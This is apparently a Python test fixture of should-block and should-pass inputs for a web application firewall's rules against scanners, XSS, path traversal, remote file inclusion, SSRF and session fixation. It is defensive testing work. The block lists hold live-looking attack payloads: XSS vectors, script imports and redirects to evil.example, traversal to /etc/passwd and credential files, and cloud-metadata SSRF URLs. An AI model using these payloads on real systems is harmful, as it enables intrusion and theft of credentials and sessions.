"""Should-block / should-pass payloads of the ``rules/managed/attacks_web.py`` classes (see ``cases.py``)."""

from __future__ import annotations

from tests.rules.case import Case

CASES: tuple[Case, ...] = (
    Case("SizeRestrictions", ("x" * 11000,), ("x" * 200,)),
    Case(
        "UserAgent_Scanner",
        ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "OpenVAS-VT 22.4",
         "Mozilla/5.0 [en] (X11, U; OpenVASVT 21.4.4)", "Fuzz Faster U Fool v2.1.0-dev",
         "Nessus SOAP v0.0.1 (Nessus.org)", "gb_some_check.nasl"),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:118.0) Gecko/20100101 Firefox/118.0", "curl/8.4.0",
         "Microsoft WinRM Client", "Mozilla/5.0 (compatible; FuzzyBot/1.0)", "Fuzz testing guide.pdf"),
    ),
    Case(
        "CrossSiteScripting",
        ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
        ("a <= b", "I <3 this & that", "5 < 6 > 4"),
    ),
    Case(
        "CrossSiteScriptingGrammar",
        ("<svg/onload=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<details open ontoggle=confirm(1)>",
         "document/*x*/./*y*/cookie", "top[/*a*/'al'+'ert'](1)", "(document)['cookie']", "prompt()",
         "(document/*c*/)['cookie']",
         '<span datasrc=#i datafld=c dataformatas=html></span>', "<x DATAFORMATAS = 'HTML'>",
         # unquoted attribute injection with any handler name; attributes that take a URL or code
         "x onpointerrawupdate=alert(1)", "  onbeforexyz= =1", "x' formaction=//evil.example",
         # tags spelled apart or behind a namespace prefix
         "<f o r m action=//evil.example>", "<d	i	a	l	o	g open>", "< x: script>", "<:vmlframe src=x>",
         # script URLs split by what browsers drop, or followed by space and code
         "ja&tab;vascript:alert(1)", "v&newline;bscript&colon;msgbox(1)", "java	script:alert(1)",
         "javascript: \\u0061lert(1)", "=javascript: document.cookie",
         "data:,<svg onload=alert(1)>", "data:text/plain;charset=utf-8, <b>x", "x{-moz-binding:url(//evil.example/x.xml#x)}",
         "a{behavior: url(x.htc)}", "<?import implementation=x.htc>", "<link rel=import href=//evil.example>",
         "<meta charset=utf-7>", "<noscript><p title=\"</noscript><img src=x>\">",
         # another charset: UTF-7 and high-bit US-ASCII
         "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "¼x¾",
         # DOM writes, SSI, calls without parentheses, JSFuck
         "window.location", "top . location='//evil.example'", "document.querySelector('p').textContent='pwned'",
         "document.body.appendChild(document.createElement('img'))", "document.getElementsByTagName('a')[0].href='x'",
         "<!--#exec cmd=\"id\"-->", "<!--#set var=\"a\" value=\"b\" -->", "<!--#printenv -->",
         "[].sort.call`${alert}1`", "[ ] . /**/ map . call ` ${x} `", "`${alert}`",
         # a handler in braces that calls or assigns is script, JSX-looking or not
         "<button onClick={alert(1)}>", "<img src=x onerror={location=name}>", "<a onmouseover= {top.alert`1`}>",
         "(![]+[])[+!+[]]", "+!![]", "[+[]]", "a=(+[])", "'infoo.bar=1", '"in valueOf=x',
         # a sink used as a function value: wrapped, optionally called, .call/.apply/.bind, a callback
         "(prompt)(document.domain)", "(0,eval)(name)", "x=alert?.(7)", "confirm.call(null,2)",
         "prompt.apply(0,[3])",
         "alert.bind(window,4)()", "alert.call`5`", "[7].find(alert)", "Promise.resolve(8).then(confirm)",
         "Reflect.apply(prompt,null,[9])", "window.onerror=alert;throw 1", "onerror=confirm;throw 2",
         "this['alert'](1)",
         # script loaded or navigated to without a tag
         "import('//evil.example/m.js')", 'import("https://evil.example/x.mjs")',
         "new Function`alert\\`6\\``",
         "location.href='//evil.example/?'+1", "opener.location='//evil.example'",
         "parent.location.href = 'x'",
         # tags a sanitizer strips, placed inside a handler name or a call
         "\\\"autof<x>ocus o<x>nfocus=alert<x>(1)//", "on<b>mouse</b>over=x", "confirm<i>(1)",
         # an XML entity declaration, and a comment closer as a whole value
         '<!ENTITY % ext SYSTEM "http://evil.example/x.dtd">', "foo!ENTITY bar PUBLIC", "-->",
         # a bare <svg> start tag, and an SVG document's tag that carries a handler
         "<svg>", "<SVG/x>", "<svg", '<svg width="1"><script>x</script>', "<svg xmlx=1 xmln=2>",
         '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">',
         # any element with any on... attribute assigned a value (scanners probe made-up names)
         "<test oNxX=yYy>", "<test/oNcoNTeXtMenU=x>", "<x/onfoo=1>", "<d3v onpointerenter=x>"),
        ("Export: dataformatas html is an old IE attribute",
         "Use `<b>` for bold, e.g. a < b", "data:image/png;base64,iVBORw0KGgo=", "javascript is fun",
         "the document (signed) cookie policy", "top [10] picks", "confirm (yes/no)",
         "I <3 this, a < b > c", "turn it on (online only)", "My config: ONBOOT=yes BOOTPROTO=dhcp", "Mr O'Brien onboarding=done", "a=1; onboarding=done", "x==online==y",
         "The `<form>` element, <b>bold</b>", "<b>bold</b> and <i>italic</i>",
         "JavaScript: the good parts (2008)", "JavaScript: parseInt() returns NaN", "Java Script: tutorial",
         "![](screenshot.png) and (see ![](fig.png))", "std::vector vs C++[] arrays", "a+[]", "f( [], 1)", "x = [[], [1]]", "Wow!! [] is empty",
         "¼ cup sugar, ¾ cup flour", "data: see below, <b>x</b>", "metadata:, <none>",
         "Call `fn.call` with `${x}`", "Hello ${name}, your order `#42` shipped", "`${user.name}`",
         "<!-- #region helpers -->", "<!-- TODO: echo var later -->", "the window location is north", "self.location = location  # python", 'He said: "in this.case=true"', "the list [ [] ] is nested", "x = !![] in JS is true",
         "document.pdf in the body of the email", "<x:Body>soap</x:Body>", "1/4 of the class, 3/4 passed",
         "mailto:support@example.com", "graph { user(id: 4) { name } }", "He said 'in time' = on time",
         "'in' is a keyword; x in obj.keys",
         # JSX handler references name a function and call nothing
         "return <button onClick={onClick}>{label}</button>;", "<input onChange={this.handleChange} value={v} />",
         "<li onMouseEnter={ props.onHover }>{item}</li>",
         "<button onClick={() => setOpen(true)}>Open</button>", "add `onChange={(e) => setName(e.target.value)}` here",
         # sinks named in prose and code that does not hand them over; arrows; an entity diagram
         "Severity (alert) (warning) and (info)", "confirm (yes) or cancel (no)", "the alert.level setting",
         "parent.location is read by the frame", "location.href returns the page URL", "queue.put(alert)",
         "cfg['alert'] = True", "levels: ['alert', 'info']", "import('./lazy.js')",
         "Step 1 --> Step 2", "a <-- b --> c", "on <b>line</b> shop", "ENTITY relationships (SYSTEM design)",
         "notify_on=alert", "onClose=prompt", 'Don\'t forget: "onboarding=done" is set.', "toggle 'online=true' in settings",
         # "on" after a hyphen is not a handler name
         '<div data-online="1" class="x">', "<my-el data-onboarding=done>"),
    ),
    Case(
        "PathTraversal",
        ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//proc/self/environ",
         "file=..\\pineapple", "page=../index", "..;/admin", "0x5c0x2e./", "0x2f0x2e0x2e0x2fx", "/sys/class",
         "..0x2fboot.ini", "..0x5c..0x5cwin.ini",
         '--b\r\nContent-Disposition: form-data; name="f"; filename="../a.7z"\r\n\r\nx\r\n--b--\r\n',
         "..\u2215..\u2215etc\u2215passwd", "..%2f..%2fetc", "..%c0%af..%c0%afetc/hosts", "\\\\?\\C:\\x",
         "\\\\attacker.example\\share\\x.dll", "WEB-INF/web.xml", "%uff0e%uff0e%u2215etc",
         # the same file through "./" and "//" steps; an administrative share on an IPv6 host
         "/etc/./passwd", "/etc//shadow", "/proc/self/./environ", "\\\\::1\\c$\\users\\x\\ntuser.dat",
         "\\\\[::1]\\admin$\\x", "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
         # more of the files LFI probes read (a value that is a dotfile path: test_web_sets.py)
         "/var/www/html/wp-config.php", "/opt/tomcat/conf/tomcat-users.xml",
         "/etc/machine-id", "/proc/sched_debug", "/var/spool/cron/crontabs/root",
         # an NTFS stream of a file: the script's source
         "index.php::$DATA", "/web.config::$INDEX_ALLOCATION",
         "/usr/local/etc/php/php.ini",
         "/run/secrets/kubernetes.io/serviceaccount/token"),
        ("registers 0..0x2f are reserved", "C++: std::string::data() and vec::data", "cost: $DATA",
         "see ../docs/readme.md", "our share is \\\\fileserver\\reports", "web-inf folder docs", "3 ∕ 4 cup", "/etc is a directory name", "1/2 cup", "import x from '../utils'",
         "wait..; then go", "the /docs/../ path in prose", "ecosystem/classic", "0x2e is a dot",
         'path = os.path.join(base, "..", "data")', "edit .git/config to add a remote",
         "edit wp-config.php (it holds the keys)", "map \\\\nas\\backup$ as drive Z",
         "/proc is a virtual filesystem",
         "the environment variable", "run/secrets in compose docs",
         'the link "../faq" is relative', "Run `cat /etc/os-release` to see the version",
         '--b\r\nContent-Disposition: form-data; name="f"; filename="report.v2.final.pdf"\r\n\r\nx\r\n--b--\r\n'),
    ),
    Case(
        "RemoteFileInclusion",
        ("page=http://203.0.113.9/shell.txt?", "x=http?", "x=file?", "_CONF[path]=https://evil.example/",
         "mosConfig_absolute_path=http://evil.example/x", "jar:http://evil.example/b.zip!/a",
         "local_file:///etc/hosts", "url:file:///etc/hosts", "file:///c:/boot.ini"),
        ("next=https://example.com/welcome", "what is https?", "base_url=https://cdn.example.com/",
         "return_to=https://example.com/account?tab=1", "open the file: report.pdf",
         "the jar: a glass container", "a file:/// link in prose"),
    ),
    Case(
        "RemoteFileInclusionAuthority",
        ("http://example.com%2f@evil.example/", "https://a.example%2f:pw@evil.example/x", "http://good.example%5c@evil.example/"),
        ("https://medium.com/@ann/post", "https://example.com/a%2Fb@c", "mailto:ann%40example.com", "see https://example.com/x"),
    ),
    Case(
        "RestrictedFileArgument",
        ("backup.sql.zip", "db/dump.sql.gz", "site.bak.tar"),
        ("backup.sql.zip restore guide", "backup.sql notes", "report.zip", "notes.sql.txt"),
    ),
    Case(
        "SSRF",
        (
            "http://169.254.169.254/latest/meta-data/",
            "http://0x7f000001/admin",
            "http://2130706433:8080/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://[::1]/",
        ),
        ("https://example.com/callback", "http://cdn.example.org/1.2.3.4/x.png", "v1.0.0.1 release"),
    ),
    Case(
        "HiddenPath",
        (".aws/credentials", ".ssh/id_rsa", ".claude/settings.json"),
        (".well-known/security.txt", "static/app.64db6ee7.js", "v1.2/notes"),
    ),
    Case(
        "RestrictedFile",
        ("backup.sql.zip", "db.sql", "wp-config.php.bak", "index.php~", "wp-content/debug.log",
         "logs/error.log.1", "@id/__x00__", "@fs/etc/passwd"),
        ("report.v2.final.pdf", "blog/changelog", "catalog", "api/logs/2024", "release-notes.md",
         "@alice/posts", "sqlite-guide.html"),
    ),
    Case(
        "SessionCookieInBody",
        ('{"jsessionid": "74B0CB41"}', '{ "phpsession":"foo" }', "PHPSESSID=abc", "ASPSESSIONIDQAQRCTBS=x",
         "sessionid=abc123"),
        ('{"session_id": "cs_test_a1"}', '{"sessionId": 4, "event": "page_view"}', "session: winter",
         "possession=ball&assessment=final", "my sessionid is abc"),
    ),
    Case(
        "SessionFixation",
        ("jsessionid=74B0CB41", "rack.session=BAh7CEki", "shop_login_token=x9", "cftoken=6789",
         "x.cookie;expires=Wed, 01 Jan 2031", "document.cookie='a=b; domain=.example.com'",
         "<meta http-equiv=Set-Cookie content=a=b>", "cakephp=abc123def456", "shiny-token=abc123def",
         "laravel_session=eyJpdiI6"),
        ("assessment=final", "cakephp tutorial", "q=laravel session guide", "sid=3", "q=session times", "possession of the ball", "obsession=none",
         "set a cookie; it expires in a day", "cookie jar; domain names"),
    ),
)
